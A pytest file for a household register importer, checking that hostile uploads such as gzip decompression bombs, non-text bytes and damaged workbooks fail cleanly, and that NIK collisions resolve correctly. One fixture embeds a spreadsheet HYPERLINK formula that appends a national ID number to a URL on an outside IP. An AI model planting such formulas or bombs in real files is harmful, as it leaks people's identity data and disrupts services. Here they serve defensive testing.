"""Register files that try the importer: hostile ones, and rows that claim what is another's."""

import gzip

import pytest

from households.register.models import Listing, Person
from households.register.numbers import open_number
from tests.conftest import owner
from tests.households.test_imports import take_in
from tests.households.test_intake_reading import workbook, zipped

pytestmark = pytest.mark.django_db
HEADER = "IDSEMESTA,Nama,NIK,NOKK,tanggal_lahir,jk,Alamat\n"
SITI, RINI = "6271015705900012", "6271015705900022"
FORMULA = (
    '<row><c t="inlineStr"><is><t>Nama</t></is></c><c t="inlineStr"><is><t>NIK</t></is></c>'
    '<c t="inlineStr"><is><t>NOKK</t></is></c><c t="inlineStr"><is><t>tanggal_lahir</t></is></c></row>'
    '<row><c t="str"><f>HYPERLINK("http://203.0.113.9/?"&amp;B2,"SITI")</f><v>SITI</v></c>'
    f'<c t="inlineStr"><is><t>{SITI}</t></is></c><c t="inlineStr"><is><t>6271012301169735</t></is></c>'
    '<c t="inlineStr"><is><t>17-05-1990</t></is></c></row>'
)


def row(number, name, nik="", card="6271012301169735", born="17-05-1990", active="0"):
    return f"{number},{name},{nik},{card},{born},P,Jl. Anoi\n"


def people():
    with owner():
        found = Person.objects.filter(listings__batch__isnull=False).distinct().order_by("name")
        return {person.name: person.nik_cipher and open_number("nik", person.pk, person.nik_cipher) for person in found}


def endless(before=b""):
    return gzip.compress(before + b"9" * 40_000_000)


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (endless(), "line_too_long"),
        (endless(HEADER.encode()), "line_too_long"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" * 9, "file_not_text"),
        (HEADER.encode("utf-16-le"), "file_not_text"),
        (HEADER.encode("utf-16-be").replace(b"\0", b"\x81"), "file_not_text"),
        (zipped("<sheetData><row><c><v>"), "workbook_damaged"),
        (workbook(["a", "b"]), "header_not_found"),
        (gzip.compress(gzip.compress(HEADER.encode())), "file_not_text"),
    ],
)
def test_a_hostile_file_fails_its_job_by_name_and_leaves_nothing(client, world, content, code):
    told = take_in(client, world, "file.csv", "2022-12-31", content=content)
    assert (told["status"], told["problem"]) == ("failed", code)
    assert people() == {}


def test_a_formula_in_a_workbook_is_never_run_only_its_last_value_is_read(client, world):
    content = zipped(f"<sheetData>{FORMULA}</sheetData>")
    told = take_in(client, world, "file.xlsx", "2022-12-31", content=content)
    assert told["counts"]["accepted"] == 1
    assert people() == {"SITI": SITI}


def test_two_people_of_the_register_who_claim_one_nik_stay_two(client, world):
    first = HEADER + row(11, "RINI", RINI) + row(12, "SITI")
    take_in(client, world, "a.csv", "2022-12-31", content=first.encode())
    assert people() == {"RINI": RINI, "SITI": None}
    second = HEADER + row(11, "RINI", SITI) + row(12, "SITI", SITI)
    told = take_in(client, world, "b.csv", "2023-12-31", content=second.encode())
    assert told["status"] == "succeeded", told
    assert people() == {"RINI": SITI, "SITI": None}


def test_a_new_entry_under_a_nik_that_a_listed_person_now_has_is_that_person(client, world):
    take_in(client, world, "a.csv", "2022-12-31", content=(HEADER + row(12, "SITI")).encode())
    second = HEADER + row(13, "SITI AMINAH", SITI) + row(12, "SITI", SITI, card="6271012301169736")
    told = take_in(client, world, "b.csv", "2023-12-31", content=second.encode())
    assert told["status"] == "succeeded", told
    assert told["counts"]["people_new"] == 0
    assert len(people()) == 1


def test_a_register_number_longer_than_its_column_is_kept_as_a_digest_and_found_again(client, world):
    content = (HEADER + row("9" * 30, "SITI", SITI)).encode()
    for name in ("a.csv", "b.csv"):
        told = take_in(client, world, name, "2022-12-31", content=content)
        assert told["counts"]["entries"] == (name == "a.csv")
    with owner():
        assert [len(number) for number in Listing.objects.filter(batch__isnull=False).values_list("register_number", flat=True)] == [16]  # fmt: skip # noqa: E501
